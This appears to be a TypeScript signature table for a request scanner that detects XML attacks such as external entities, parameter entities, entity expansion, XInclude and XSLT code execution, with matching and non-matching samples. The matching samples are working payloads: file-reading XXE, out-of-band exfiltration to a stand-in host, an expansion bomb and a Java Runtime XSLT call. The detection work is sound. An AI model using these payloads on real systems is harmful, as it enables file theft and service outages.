import type { SignEntry } from '../sign-entry.ts';

const style = (content: string): string =>
  `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform">${content}</xsl:stylesheet>`;

export const xmlSigns = {
  'xml-external-entity': {
    means: 'an entity whose text comes from a file or another host',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///srv/key">]><a>&b;</a>',
        '<!DOCTYPE a [<!ENTITY b PUBLIC "x" "http://files.test/x">]>',
        {
          method: 'POST',
          target: '/orders',
          headers: { 'content-type': 'application/xml' },
          body: '<!DOCTYPE a [<!ENTITY b SYSTEM "/srv/key">]><a>&b;</a>',
        },
      ],
      other: ['<!DOCTYPE html><p>hi</p>', '<!ENTITY name "text">', 'the SYSTEM entity'],
    },
  },
  'xml-parameter-entity': {
    means: 'an entity of a document type that draws declarations in or makes new ones',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://files.test/b.dtd"> %b;]>',
        `<!ENTITY % b "<!ENTITY &#x25; c SYSTEM 'http://files.test/?%d;'>">`,
      ],
      other: ['<!ENTITY b "100 % wool">', '<!DOCTYPE a SYSTEM "a.dtd">'],
    },
  },
  'xml-local-address': {
    means: 'an entity that reads a file of the server or runs a wrapper',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '<!ENTITY b SYSTEM "file:///srv/key">',
        '<!ENTITY b SYSTEM "php://filter/resource=a">',
      ],
      other: ['<!ENTITY b SYSTEM "http://files.test/">', '<!ENTITY b "file:///srv/key">'],
    },
  },
  'xml-remote-address': {
    means: 'an entity that makes the parser send a request',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '<!ENTITY b SYSTEM "http://files.test/x">',
        '<!ENTITY % b SYSTEM "ftp://files.test/%c;">',
      ],
      other: ['<!ENTITY svg "http://www.w3.org/2000/svg">', '<!ENTITY b SYSTEM "b.ent">'],
    },
  },
  'xml-expansion': {
    means: 'entities that multiply when they are replaced',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '<!DOCTYPE z [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><z>&c;</z>',
        `<!DOCTYPE z [<!ENTITY a "${'ha'.repeat(600)}">]><z>${'&a;'.repeat(40)}</z>`,
      ],
      other: ['<!ENTITY a "x"><!ENTITY b "&a; and &a;">', '&lt;&gt;&amp;'],
    },
  },
  'xml-external-type': {
    means: 'a document type that the parser fetches from elsewhere',
    severity: 'error',
    paranoia: 1,
    samples: {
      matching: [
        '<!DOCTYPE a SYSTEM "http://files.test/a.dtd"><a/>',
        '<!DOCTYPE a PUBLIC "-//x" "file:///srv/a">',
      ],
      other: [
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
        '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
        '<!DOCTYPE note SYSTEM "note.dtd">',
      ],
    },
  },
  'xml-inclusion': {
    means: 'an XInclude element that draws another document in',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '<a xmlns:i="http://www.w3.org/2001/XInclude"><i:include parse="text" href="file:///srv/key"/></a>',
        '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="b.xml"/></a>',
      ],
      other: ['<a><include href="b.xml"/></a>', 'http://www.w3.org/2001/XInclude'],
    },
  },
  'xml-stylesheet': {
    means: 'a style sheet for transformation from elsewhere',
    severity: 'error',
    paranoia: 1,
    samples: {
      matching: [
        '<?xml-stylesheet type="text/xsl" href="http://files.test/x.xsl"?><a/>',
        '<?xml-stylesheet href="//files.test/x" type="application/xslt+xml"?><a/>',
      ],
      other: [
        '<?xml-stylesheet type="text/css" href="http://shop.test/x.css"?><a/>',
        '<?xml-stylesheet type="text/xsl" href="list.xsl"?><a/>',
      ],
    },
  },
  'xml-transform-code': {
    means: 'a style sheet that calls code',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        style('<x xmlns:r="http://xml.apache.org/xalan/java/java.lang.Runtime"/>'),
        style('<msxsl:script language="C#">x</msxsl:script>'),
      ],
      other: [style('<xsl:template match="/"/>'), 'http://xml.apache.org/xalan/java'],
    },
  },
  'xml-transform-document': {
    means: 'a style sheet that reads other documents',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        style('<xsl:copy-of select="document(\'/srv/key.xml\')"/>'),
        style('<xsl:include href="http://files.test/x.xsl"/>'),
      ],
      other: [style('<xsl:copy-of select="document(\'names.xml\')"/>'), "document('/srv/key.xml')"],
    },
  },
  'xml-encoding': {
    means: 'a document in an encoding that filters do not read',
    severity: 'error',
    paranoia: 1,
    samples: {
      matching: [
        '<?xml version="1.0" encoding="UTF-7"?>+ADw-a+AD4-',
        '<?xml version="1.0" encoding="ibm037"?>',
      ],
      other: [
        '<?xml version="1.0" encoding="UTF-8"?><a/>',
        '<?xml version="1.0" encoding="utf-16"?><a/>',
      ],
    },
  },
} as const satisfies Record<string, SignEntry>;
